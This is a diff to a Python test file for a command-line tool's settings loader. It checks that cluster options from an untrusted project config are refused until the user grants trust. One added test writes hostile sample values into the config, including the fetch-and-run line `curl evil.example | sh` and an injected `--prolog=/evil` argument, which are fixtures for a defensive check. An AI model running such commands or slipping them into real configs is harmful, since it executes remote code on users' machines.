@@ -14,7 +14,8 @@ from toy_toolbox import command
 
 from mimctl.consent import Request, accept, not_accepted
 from mimctl.errors import ConfigError, Origin
-from mimctl.settings import KEYS, load
+from mimctl.settings import load
+from mimctl.settings.keys import KEYS
 
 GUARDED = sorted(name for name, key in KEYS.items() if not key.is_harmless and name != "home")
 
@@ -35,7 +36,7 @@ def test_only_what_names_no_place_counts_without_asking():
 
 def refused(tmp_path: Path, name: str) -> ConfigError:
     """Return the refusal of a project's file that sets `name` to a value of its kind."""
-    for value in ("'x'", "['x']", "'best'", "true", "1", "{ a = 'https://b.example' }"):
+    for value in ("'x'", "['x']", "'best'", "true", "1", "{ a = 'https://b.example' }", "{ a = { setup = 'x' } }"):
         (tmp_path / "mimctl.toml").write_text(f"color = 'never'\n{name} = {value}\n")
         with pytest.raises(ConfigError) as caught:
             load(environ={"HOME": str(tmp_path / "home")}, folder=tmp_path)
@@ -94,6 +95,21 @@ def test_settings_show_tells_what_is_not_accepted_and_trust_accepts_it(mimctl, c
     assert "nothing to do" in mimctl("settings", "trust", cwd=clone).err
     assert mimctl("settings", "trust", "--undo", cwd=clone).code == 0
     assert "error[untrusted-settings]" in mimctl("install", "det", cwd=clone).err
+
+
+def test_what_a_project_says_of_a_cluster_counts_as_far_as_nothing_is_run_by_it(mimctl, clone):
+    project = clone / "mimctl.toml"
+    project.write_text('[clusters.alpha]\npartition = "gpu"\ncpus_per_task = 4\naccount = "a"\n')
+    assert mimctl("list", cwd=clone).code == 0
+    for line in ("setup = 'curl evil.example | sh'", "container = 'evil'", "srun_args = '--prolog=/evil'"):
+        project.write_text(f"[clusters.alpha]\npartition = 'gpu'\n{line}\n")
+        said = mimctl("train", "det", "x", cwd=clone)
+        name = f"clusters.alpha.{line.partition(' ')[0]}"
+        assert said.code == 2
+        assert said.err.startswith(f"error[untrusted-settings]: the project's file sets `{name}`")
+        assert f"--> {project}:3" in said.err
+    assert mimctl("settings", "trust", cwd=clone).code == 0
+    assert "untrusted-settings" not in mimctl("train", "det", "x", cwd=clone).err
 
 
 def test_another_value_and_another_folder_are_asked_for_anew(tmp_path):
